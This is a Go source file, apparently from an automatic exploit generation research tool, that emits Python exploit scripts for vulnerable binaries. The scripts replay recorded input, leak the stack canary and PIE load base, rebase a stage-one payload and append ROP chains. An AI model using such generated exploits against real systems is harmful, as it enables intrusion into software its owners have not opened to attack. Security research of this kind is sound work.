package exploit

import (
	"errors"
	"fmt"
	"strings"

	"github.com/LJP-TW/CRAXplusplus/internal/elf"
	"github.com/LJP-TW/CRAXplusplus/internal/engine"
	"github.com/LJP-TW/CRAXplusplus/internal/expr"
	"github.com/LJP-TW/CRAXplusplus/internal/iostates"
)

// LeakBasedGenerator renders the exploit's main function by replaying the
// I/O timeline recorded by the I/O-state tracker. Inputs before the hijack
// become literal sends, the hijacking input becomes the stage-one payload,
// and leaking outputs become receives that recover the canary and load
// base at exploitation time.
type LeakBasedGenerator struct {
	exploit *Exploit
	ios     *iostates.IOStates
}

// NewLeakBasedGenerator binds the generator to its script sink and the
// I/O-state tracker.
func NewLeakBasedGenerator(ex *Exploit, ios *iostates.IOStates) *LeakBasedGenerator {
	return &LeakBasedGenerator{exploit: ex, ios: ios}
}

// GenerateMainFunction walks the state's timeline and writes the exploit
// body. ropChain is the built payload list; its first subchain holds the
// solved stage-one bytes, which also back the input stream.
func (g *LeakBasedGenerator) GenerateMainFunction(s engine.State, ropChain []expr.RopSubchain, stage1 []byte) error {
	modState := g.ios.StateOf(s)
	if modState.LastInputStateInfoIdxBeforeFirstSymbolicRip == -1 {
		return errors.New("timeline has no input before the hijack")
	}

	checksec := g.exploit.ELF().Checksec
	if checksec.HasCanary || checksec.HasPIE {
		g.emitStage1Solver(stage1)
	}

	stream := NewInputStream(stage1)
	for i, info := range modState.StateInfoList {
		g.exploit.Writeline("")
		switch info := info.(type) {
		case iostates.InputStateInfo:
			g.handleInput(modState, stream, ropChain, i, info)
		case iostates.OutputStateInfo:
			g.handleOutput(info)
		case iostates.SleepStateInfo:
			g.exploit.Writeline("# sleep state")
			g.exploit.Writeline(fmt.Sprintf("sleep(%d)", info.Sec))
		}
	}
	return nil
}

func (g *LeakBasedGenerator) handleInput(modState *iostates.State, stream *InputStream,
	ropChain []expr.RopSubchain, i int, info iostates.InputStateInfo) {
	// Dynamic ROP can trigger extra input states after the instruction
	// pointer first went symbolic. They consume solver bytes but produce
	// no send of their own.
	if i != modState.LastInputStateInfoIdx &&
		i >= modState.LastInputStateInfoIdxBeforeFirstSymbolicRip {
		g.exploit.Writeline(fmt.Sprintf("# input state (offset = %d), skipped", info.Offset))
		stream.Skip(int(info.Offset))
		return
	}

	g.exploit.Writeline(fmt.Sprintf("# input state (offset = %d)", info.Offset))

	if i != modState.LastInputStateInfoIdx {
		bytes := stream.Read(int(info.Offset))
		g.exploit.Writeline(fmt.Sprintf("proc.send(%s)", expr.NewByteVector(bytes).String()))
		return
	}

	g.exploit.Writeline("# input state (rop chain begin)")
	g.handleStage1(modState, stream, info)

	for j := 1; j < len(ropChain); j++ {
		for _, e := range ropChain[j] {
			g.exploit.AppendRopPayload(expr.Script(e))
		}
		g.exploit.FlushRopPayload()
	}
}

func (g *LeakBasedGenerator) handleStage1(modState *iostates.State, stream *InputStream,
	info iostates.InputStateInfo) {
	checksec := g.exploit.ELF().Checksec

	var s string
	if !checksec.HasCanary && !checksec.HasPIE {
		bytes := stream.Read(int(info.Offset))
		s = expr.NewByteVector(bytes).String()
	} else {
		// With canary or PIE the stage-one bytes depend on leaked values
		// and are patched at exploitation time.
		s = fmt.Sprintf("solve_stage1(canary, elf_base, '%s')[%d:", modState.String(), stream.NrBytesRead())
		if stream.NrBytesSkipped() > 0 {
			s += fmt.Sprintf("%d", stream.NrBytesConsumed())
		}
		s += "]"
	}

	g.exploit.AppendRopPayload(s)
	g.exploit.FlushRopPayload()
}

func (g *LeakBasedGenerator) handleOutput(info iostates.OutputStateInfo) {
	g.exploit.Writeline("# output state")

	if !info.Interesting {
		g.exploit.Writeline("proc.recvrepeat(0.1)")
		return
	}

	g.exploit.Writeline("# leaking: " + info.LeakType.String())

	if info.LeakType == iostates.LeakCanary {
		g.exploit.Writelines([]string{
			fmt.Sprintf("proc.recv(%d)", info.BufIndex),
			`canary = u64(b'\x00' + proc.recv(7))`,
			"log.info('leaked canary: {}'.format(hex(canary)))",
		})
	} else {
		g.exploit.Writelines([]string{
			fmt.Sprintf("proc.recv(%d)", info.BufIndex),
			`elf_leak = u64(proc.recv(6).ljust(8, b'\x00'))`,
			fmt.Sprintf("elf_base = elf_leak - %#x", info.BaseOffset),
			"log.info('leaked elf_base: {}'.format(hex(elf_base)))",
		})
	}
}

// emitStage1Solver registers the python helper that patches the recorded
// stage-one template with the values leaked at exploitation time: the
// intercepted canary words are replaced with the leaked canary, and for
// PIE targets every word pointing into the image is rebased onto the
// leaked load base. Words are scanned at payload slot granularity.
func (g *LeakBasedGenerator) emitStage1Solver(stage1 []byte) {
	image := g.exploit.ELF()
	checksec := image.Checksec

	var b strings.Builder
	b.WriteString("def solve_stage1(canary, elf_base, schedule):\n")
	fmt.Fprintf(&b, "    stage1 = bytearray(%s)\n", expr.NewByteVector(stage1).String())
	b.WriteString("    for i in range(0, len(stage1) - 7, 8):\n")
	b.WriteString("        qword = u64(stage1[i:i+8])\n")

	if checksec.HasCanary {
		fmt.Fprintf(&b, "        if qword == %#x:\n", g.ios.Canary())
		b.WriteString("            stage1[i:i+8] = p64(canary)\n")
	}
	if checksec.HasPIE {
		lo, hi := imageSpan(image)
		fmt.Fprintf(&b, "        if %#x <= qword < %#x:\n", lo, hi)
		fmt.Fprintf(&b, "            stage1[i:i+8] = p64(qword - %#x + elf_base)\n", lo)
	}
	b.WriteString("    return bytes(stage1)")

	g.exploit.RegisterAuxiliaryFunction(b.String())
}

// imageSpan returns the runtime address range the image's load segments
// cover on this state.
func imageSpan(image *elf.ELF) (uint64, uint64) {
	base := image.Base()
	var hi uint64
	for _, seg := range image.Segments {
		if end := seg.VAddr + seg.Memsz; end > hi {
			hi = end
		}
	}
	return base, base + hi
}
